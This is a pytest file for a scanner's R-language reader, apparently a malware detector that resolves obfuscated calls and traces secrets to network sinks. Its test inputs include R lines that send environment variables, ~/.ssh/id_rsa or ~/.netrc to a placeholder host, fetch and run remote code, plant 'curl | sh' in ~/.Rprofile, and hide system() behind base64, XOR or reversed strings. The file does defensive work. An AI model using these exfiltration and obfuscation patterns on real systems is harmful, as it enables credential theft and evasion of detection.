"""R code: how it is read, what expressions are worked out to be, what flows where, and when it runs."""

import base64
import gzip

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.errors import InvalidInput
from pratique.facts.scan.content import Content, Reader, Reading
from pratique.facts.scan.engine import lexicon
from pratique.facts.scan.languages.r import LANGUAGE
from pratique.facts.scan.languages.r.nodes import (
    Assign,
    Binary,
    Block,
    Call,
    Constant,
    Function,
    Index,
    Member,
    Name,
    Node,
)
from pratique.facts.scan.languages.r.syntax import Parser
from pratique.facts.scan.languages.r.view import read
from pratique.facts.scan.observation import Context, How, Observation


def seen(
    text: str, path: str = "x/inst/run.R", context: Context = Context.MODULE_TOP, *, inside: bool = False
) -> Reading:
    content = Content(path, "r", text.encode(), context, inside=inside)
    reading = Reading(path)
    read(content, Reader(content, reading, lexicon()))
    return reading


def only(text: str, label: str, path: str = "x/inst/run.R") -> Observation:
    found = [each for each in seen(text, path).observations if each.label == label]
    assert len(found) == 1, found
    return found[0]


def shown(node: Node | None) -> str:  # noqa: C901, PLR0911 - a line a kind
    """An expression as nested calls, for comparing."""
    match node:
        case Constant(value):
            return repr(value)
        case Name(name, _, package):
            return f"{package}::{name}" if package else name
        case Call(function, arguments):
            return f"{shown(function)}({', '.join(f'{key}={shown(each)}' if key else shown(each) for key, each in arguments)})"
        case Function(parameters, body):
            return f"fn({' '.join(name for name, _ in parameters)} -> {shown(body)})"
        case Block(body, _, kind):
            return f"{kind}{{{'; '.join(shown(each) for each in body)}}}"
        case Binary(operator, left, right):
            return f"({shown(left)} {operator} {shown(right)})"
        case Assign(target, value):
            return f"{shown(target)} := {shown(value)}"
        case Member(base, name):
            return f"{shown(base)}${name}"
        case Index(base, arguments, _, double):
            return f"{shown(base)}{'[[' if double else '['}{', '.join(shown(each) for _, each in arguments)}]"
        case None:
            return "nothing"
        case _:
            return f"{node.operator}{shown(node.operand)}"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a <- 1; b = 'x'; 2 -> c", ["a := 1", "b := 'x'", "c := 2"]),
        ("1 + 2 * 3 ^ 2", ["(1 + (2 * (3 ^ 2)))"]),
        ("-a^2", ["-(a ^ 2)"]),
        ("a$b$c(1)[2][['d']]", ["a$b$c(1)[2][['d']"]),
        ("p::f(x, n = 1,\n  y)", ["p::f(x, n=1, y)"]),
        ("x |> f() |> g(1)", ["g(f(x), 1)"]),
        ("x %>% f %>% g(1)", ["g(f(x), 1)"]),
        ("f <- function(a, b = 2) a + b", ["f := fn(a b -> (a + b))"]),
        ("\\(x) x", ["fn(x -> x)"]),
        ("if (a) b else if (c) d else e", ["if{a; b; c; d; e}"]),
        ("{ if (a) b\n  else c }", ["{{if{a; b; c}}"]),
        ("for (i in x) { y }", ["for{x; {{y}}"]),
        ("while (a) b; repeat { c }", ["while{a; b}", "repeat{{{c}}"]),
        ("a\n+ b", ["a", "+b"]),
        ("(a\n+ b)", ["({(a + b)}"]),
        ("r\"(a\\b)\"; R'--[x]--'", ["'a\\\\b'", "'x'"]),
        ("'a\\x62\\u0063\\144'", ["'abcd'"]),
        ("`my var` <- 0x1F; 1e3; 5L", ["my var := 31", "1000", "5"]),
        ("(.5 + 1.5e-3); ..1; .a", ["({(0.5 + 0.0015)}", "..1", ".a"]),
        ("y ~ x + z", ["(y ~ (x + z))"]),
        ("a # comment 'b\nc", ["a", "c"]),
        ("f(function(x) { x }, ...)", ["f(fn(x -> {{x}), ...)"]),
        ("x[1, , drop = FALSE]", ["x[1, False]"]),
        ("a := b; !x && y", ["a := b", "(!x && y)"]),
    ],
)
def test_expressions_are_read_in_the_order_of_their_operators(text: str, expected: list[str]) -> None:
    parser = Parser(text)
    assert [shown(node) for node in parser.program()] == expected
    assert parser.mistakes == 0


def test_what_fits_nowhere_is_passed_over_and_counted() -> None:
    parser = Parser("a <- ) b\nsystem('x')")
    assert "system('x')" in [shown(node) for node in parser.program()]
    assert parser.mistakes > 0


CODE = "system('echo look')"
ENCODED = base64.b64encode(CODE.encode()).decode()
PACKED = base64.b64encode(gzip.compress(CODE.encode(), mtime=0)).decode()


@pytest.mark.parametrize(
    "text",
    [
        f"rawToChar(base64enc::base64decode('{ENCODED}'))",
        f"rawToChar(jsonlite::base64_dec(paste0('{ENCODED[:8]}', '{ENCODED[8:]}')))",
        f"intToUtf8(c({', '.join(str(ord(each)) for each in CODE)}))",
        f"rawToChar(as.raw(c({', '.join(hex(ord(each)) for each in CODE)})))",
        f"paste(rev(strsplit(\"{CODE[::-1]}\", '')[[1]]), collapse = '')",
        f'intToUtf8(rev(utf8ToInt("{CODE[::-1]}")))',
        f"intToUtf8(bitwXor(c({', '.join(str(ord(each) ^ 7) for each in CODE)}), 7L))",
        f"intToUtf8(c({', '.join(str(ord(each) + 3) for each in CODE)}) - 3L)",
        f"rawToChar(memDecompress(base64enc::base64decode('{PACKED}'), 'gzip'))",
        "paste0('sys', \"tem('echo \", 'look', \"')\")",
        "sprintf(\"%s('%s')\", 'system', 'echo look')",
        "gsub('#', '', \"sys#tem('ec#ho look')\", fixed = TRUE)",
        "tolower(\"SYSTEM('ECHO LOOK')\")",
        "paste(sapply(c(115, 121, 115), intToUtf8), collapse = '') -> a; paste0(a, \"tem('echo look')\")",
        "substr(\"xxsystem('echo look')\", 3, 50)",
        "paste0(letters[19], letters[25], letters[19], \"tem('echo look')\")",
        "Reduce(paste0, c('sys', 'tem', \"('echo look')\"))",
        "local({ x <- 'sys'; paste0(x, \"tem('echo look')\") })",
        "(function(a, b) paste0(b, a))(\"tem('echo look')\", 'sys')",
        "'s\\x79stem(\\'echo look\\')'",
    ],
)
def test_texts_are_worked_out_through_the_usual_detours(text: str) -> None:
    before, _, last = text.rpartition("; ") if text.startswith("paste(sapply") else ("", "", text)
    reading = seen(f"{before}\neval(parse(text = {last}))\n")
    assert [each.text for each in reading.observations if each.label == "proc.shell"] == ["system(echo look)"]
    assert [each.data for each in reading.waiting] == [b"echo look"]


@pytest.mark.parametrize(
    "call",
    [
        "get('system')('x')",
        "match.fun('system')('x')",
        "do.call('system', list('x'))",
        "do.call(what = 'system', args = list('x'))",
        "base::system('x')",
        "f <- system; f('x')",
        "sapply('x', system)",
        "lapply('x', function(e) system(e))",
        "eval(call('system', 'x'))",
        "eval(as.call(list(as.name('system'), 'x')))",
        "eval(quote(system('x')))",
        "asNamespace('base')$system('x')",
        "baseenv()[['system']]('x')",
        "getFromNamespace('system', 'base')('x')",
        "run <- function(a) system(a); run('x')",
        "tryCatch(system('x'), error = function(e) NULL)",
        "'x' |> system()",
    ],
)
def test_a_function_is_known_by_whatever_name_it_is_called(call: str) -> None:
    found = [each for each in seen(call).observations if each.label == "proc.shell"]
    assert "system(x)" in [each.text for each in found]


def test_a_name_that_is_put_together_is_told_and_one_that_stands_there_is_not() -> None:
    assert only("get(paste0('sys', 'tem'))('x')", "obf.spelling").how is How.RESOLVED
    assert only("do.call('system', list('x'))", "code.reflected_builtin").text == "system"
    assert not [
        each for each in seen("do.call('lm', list(y ~ x))").observations if each.label.startswith(("obf.", "code."))
    ]


@pytest.mark.parametrize(
    ("text", "label", "inputs"),
    [
        ("httr::POST('https://a.example.invalid', body = Sys.getenv())", "net.send", {"read.env_all"}),
        (
            "x <- as.list(Sys.getenv()); httr::GET(paste0('https://a.example.invalid/', x))",
            "net.http",
            {"read.env_all"},
        ),
        (
            "k <- readLines('~/.ssh/id_rsa'); RCurl::postForm('https://a.example.invalid', k = k)",
            "net.send",
            {"read.secret_file"},
        ),
        ("curl::curl_upload('~/.netrc', 'https://a.example.invalid')", "net.send", {"read.secret_file"}),
        ("c <- socketConnection('a', 1); writeLines(Sys.getenv(), c)", "net.socket", {"read.env_all"}),
        ("c <- socketConnection('a', 1); system(readLines(c))", "proc.shell", {"net.received"}),
        ("eval(parse(text = readLines('https://a.example.invalid')))", "code.exec", {"net.http"}),
        ("source('https://a.example.invalid/x.R')", "proc.pipe_shell", {"net.http"}),
        ("download.file('https://a.example.invalid', 'x'); system2('./x')", "proc.spawn", set()),
        ("download.file('https://a.example.invalid', '/tmp/x'); system('/tmp/x')", "proc.shell", {"net.download_file"}),
        (
            "download.file('https://a.example.invalid', '/tmp/x'); source('/tmp/x')",
            "proc.fetched",
            {"net.download_file"},
        ),
        (
            "download.file('https://a.example.invalid', 'x.so'); dyn.load('x.so')",
            "code.native_by_path",
            {"net.download_file"},
        ),
        (
            "cat(\"system('curl https://a.example.invalid | sh')\", file = '~/.Rprofile')",
            "write.file",
            {"write.autostart", "net.http"},
        ),
        (
            "f <- function(x) httr::POST('https://a.example.invalid', body = x); f(Sys.getenv())",
            "net.send",
            {"read.env_all"},
        ),
    ],
)
def test_what_is_read_flows_to_what_sends_or_runs_it(text: str, label: str, inputs: set[str]) -> None:
    found = [each for each in seen(text).observations if each.label == label]
    assert any(inputs <= each.inputs for each in found), found


@pytest.mark.parametrize(
    "text",
    [
        "httr::GET('https://a.example.invalid', httr::add_headers(Authorization = paste('token', Sys.getenv('GITHUB_TOKEN'))))",
        "gh::gh('/user', .token = Sys.getenv('GITHUB_TOKEN'))",
        "v <- jsonlite::fromJSON('https://a.example.invalid')$version; system(paste('git tag', v))",
        "if (Sys.info()[['sysname']] == 'Windows') httr::GET(paste0('https://a.example.invalid/', Sys.info()['machine']))",
    ],
)
def test_ordinary_requests_carry_nothing_they_should_not(text: str) -> None:
    bad = ("read.ci_token", "read.env_secret", "read.host_info")
    for each in seen(text).observations:
        assert not (each.label.startswith("net.") and each.gets(*bad))
        assert not (each.label.startswith("proc.") and each.gets("net.http"))


@pytest.mark.parametrize(
    ("path", "text", "context"),
    [
        ("x/R/zzz.R", "system('a')", Context.R_CONFIGURE),
        ("x/R/zzz.R", "f <- function() system('a')", Context.FUNCTION),
        ("x/R/zzz.R", ".onLoad <- function(...) system('a')", Context.R_ONLOAD),
        ("x/R/zzz.R", "g <- function() system('a')\n.onAttach <- function(...) g()", Context.R_ONLOAD),
        ("x/.Rprofile", "system('a')", Context.R_ONLOAD),
        ("x/inst/run.R", "system('a')", Context.MAIN_GUARD),
        ("x/vignettes/a.Rmd", "```{r}\nsystem('a')\n```\n", Context.NOTEBOOK_CELL),
    ],
)
def test_code_runs_when_its_place_says(path: str, text: str, context: Context) -> None:
    assert only(text, "proc.shell", path).context is context


def test_tests_and_documents_stay_what_they_are() -> None:
    for context in (Context.TEST, Context.DOCS):
        reading = seen("f <- function() system('a')", "x/tests/a.R", context)
        assert {each.context for each in reading.observations} == {context}


def test_documents_hand_on_each_chunk_at_its_line() -> None:
    text = (
        "Text with `r system('a')`.\n\n```{r setup}\n\nsystem('b')\n```\n\n```{python}\nprint(1)\n```\n\n"
        "~~~{.bash}\nls\n~~~\nsystem('c')\n"
    )
    reading = seen(text, "x/a.qmd")
    assert [(each.text, each.line) for each in reading.observations if each.label == "proc.shell"] == [
        ("system(a)", 1),
        ("system(b)", 5),
    ]
    assert [(each.language, each.data, each.line) for each in reading.waiting] == [
        ("python", b"print(1)", 9),
        ("shell", b"ls", 13),
        ("shell", b"a", 1),
        ("shell", b"b", 5),
    ]
    sweave = seen("\\section{A}\n<<a>>=\nsystem('b')\n@\nsystem('c')\n", "x/a.Rnw")
    assert [each.text for each in sweave.observations if each.label == "proc.shell"] == ["system(b)"]


@pytest.mark.parametrize(
    ("text", "language", "code"),
    [
        ("reticulate::py_run_string('print(1)')", "python", b"print(1)"),
        ("reticulate::import('os')$system('x')", "python", b"import os\nos.system('x')"),
        ("ct <- V8::v8(); ct$eval('f()')", "javascript", b"f()"),
        ("Rcpp::cppFunction('int f() { system(\"x\"); }')", "shell", b"x"),
        ("system2('ls', c('-l', 'a'))", "shell", b"ls -l a"),
        ("processx::run('ls', 'a')", "shell", b"ls a"),
        ("data.table::fread(cmd = 'x y')", "shell", b"x y"),
        ("readLines(pipe('x y'))", "shell", b"x y"),
    ],
)
def test_code_of_other_languages_goes_on_to_their_views(text: str, language: str, code: bytes) -> None:
    assert (language, code) in [(each.language, each.data) for each in seen(text).waiting]


def test_code_that_was_decoded_is_followed_with_the_depth_it_was_found_at() -> None:
    inner = base64.b64encode(b"Sys.getenv()").decode()
    found = only(f"\neval(parse(text = rawToChar(base64enc::base64decode('{inner}'))))\n", "read.env_all")
    assert (found.line, found.how, found.depth) == (2, How.DECODED, 1)


@pytest.mark.parametrize(
    ("path", "head", "claimed"),
    [
        ("x/r/a.r", b"", True),
        ("x/a.rmd", b"", True),
        ("x/.rprofile", b"", True),
        ("x/run", b"#!/usr/bin/env Rscript\n", True),
        ("x/a.rs", b"", False),
        ("x/run", b"#!/bin/sh\n", False),
    ],
)
def test_files_of_r_are_known_by_name_or_first_line(path: str, head: bytes, claimed: bool) -> None:  # noqa: FBT001 - a row
    assert LANGUAGE.claims(path, head) is claimed


def test_nesting_that_nobody_writes_is_refused() -> None:
    for text in ("f(" * 300, "{" * 300, "-" * 300, "function() " * 300, "a <- " * 300, "a ^ " * 300):
        with pytest.raises(InvalidInput, match="too deeply"):
            seen(text)


def test_long_chains_are_no_nesting() -> None:
    assert seen(" + ".join(["x"] * 5_000)).problems == []
    assert seen("x" + " |> f()" * 60).problems == []
    seen("if (a) b " + "else if (a) b " * 5_000)


def test_work_without_end_is_cut_short_and_said_so() -> None:
    many = seen("\n".join(["f(a, b, c, d)"] * 120_000))
    assert many.problems == ["it has more expressions than are followed"]


SIGNS = "'\"`(){}[],;\n #%$@\\-+*/^<>=!&|~?:.0x1Lx"
SCRAPS = st.sampled_from(
    [
        *SIGNS,
        "<- ",
        "->",
        "|> ",
        "%>% ",
        "function(x) ",
        "if (",
        "else ",
        "for (i in ",
        'r"(',
        ')"',
        "eval(",
        "parse(text = ",
        "paste0(",
        "rev(",
        "strsplit(",
        "'')[[1]]",
        "intToUtf8(",
        "c(1, 2)",
        "f <- ",
        "get(",
        "do.call(",
        "```{r}\n",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(SCRAPS, max_size=60).map("".join), st.sampled_from(["x/R/a.R", "x/a.Rmd", "x/a.Rnw"]))
def test_any_text_is_read_or_refused(text: str, path: str) -> None:
    try:
        seen(text, path)
    except InvalidInput:
        return


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    content = Content("x/R/a.R", "r", data, Context.MODULE_TOP)
    try:
        read(content, Reader(content, Reading("x/R/a.R"), lexicon()))
    except InvalidInput:
        return
